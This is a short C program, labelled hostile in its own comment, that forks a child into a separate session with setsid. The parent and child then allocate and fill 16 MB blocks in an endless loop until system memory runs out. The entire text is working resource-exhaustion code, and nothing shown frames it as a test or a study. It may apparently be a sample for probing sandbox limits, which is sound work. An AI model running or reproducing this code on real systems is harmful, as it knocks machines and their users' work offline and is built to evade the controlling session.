/* Hostile: takes all memory there is, also from a session of its own. */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
    if (fork() == 0)
        setsid();
    for (;;) {
        char *piece = malloc(16 << 20);
        if (piece)
            memset(piece, 1, 16 << 20);
    }
}
